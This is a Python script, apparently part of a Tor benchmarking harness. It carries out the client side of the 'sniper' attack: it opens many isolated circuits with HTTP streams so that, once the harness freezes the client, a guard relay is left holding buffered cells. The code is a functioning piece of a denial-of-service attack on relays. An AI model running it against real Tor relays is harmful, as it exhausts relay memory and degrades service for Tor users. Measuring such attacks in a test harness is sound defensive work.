#!/usr/bin/env python3
# tools/bench/sniper_hold.py — the application side of bench-dos's "sniper" attack: through a tor
# client's SocksPort, CIRCS circuits (one SOCKS username each: tor's IsolateSOCKSAuth) with two
# streams each, every stream a GET of URL_PATH from HOST:PORT, all read as fast as they come.
# Prints "sniper: ready: S of N streams flowing" once every stream got response bytes (or 45 s
# after the last one was opened), then keeps reading until SIGTERM. bench-dos then stops the tor client (SIGSTOP): from
# then on nothing reads the guard's link and no SENDME leaves, so the guard is left holding what
# the exit still had window for (up to 1000 cells per circuit: tor-spec 7.4).
# Usage: sniper_hold.py SOCKS_PORT CIRCS HOST PORT URL_PATH    (python3 stdlib)
import os
import selectors
import signal
import socket
import struct
import sys
import time

SOCKS, CIRCS, HOST, PORT, PATH = (int(sys.argv[1]), int(sys.argv[2]), sys.argv[3],
                                  int(sys.argv[4]), sys.argv[5])


def socks5(user):
    """A SOCKS5 CONNECT with username/password auth (RFC 1928, 1929), non-blocking afterwards."""
    s = socket.create_connection(("127.0.0.1", SOCKS), timeout=120)
    s.sendall(b"\x05\x01\x02")
    if s.recv(2) != b"\x05\x02":
        raise OSError("socks: no user/pass method")
    u = user.encode()
    s.sendall(b"\x01" + bytes([len(u)]) + u + b"\x01x")
    if s.recv(2)[1:] != b"\x00":
        raise OSError("socks: auth refused")
    h = HOST.encode()
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(h)]) + h + struct.pack(">H", PORT))
    return s


def main():
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    sel = selectors.DefaultSelector()
    pending = {}  # socket -> bytes of the SOCKS reply still to skip (10 for an IPv4 reply)
    opened = 0
    for c in range(CIRCS):
        for _ in range(2):
            try:
                s = socks5("sniper%d" % c)
            except OSError as e:
                print("sniper: stream %d: %s" % (opened, e), flush=True)
                continue
            s.sendall(("GET %s HTTP/1.0\r\nHost: %s\r\n\r\n" % (PATH, HOST)).encode())
            s.setblocking(False)
            sel.register(s, selectors.EVENT_READ)
            pending[s] = 0
            opened += 1
    flowing, said, t0 = set(), False, time.monotonic()
    while True:
        for key, _ in sel.select(timeout=1):
            s = key.fileobj
            try:
                b = s.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                b = b""
            if not b:
                sel.unregister(s)
                s.close()
                continue
            pending[s] += len(b)
            if pending[s] > 10:
                flowing.add(s)
        if not said and (len(flowing) >= opened or time.monotonic() - t0 > 45):
            print("sniper: ready: %d of %d streams flowing" % (len(flowing), 2 * CIRCS), flush=True)
            said = True


main()
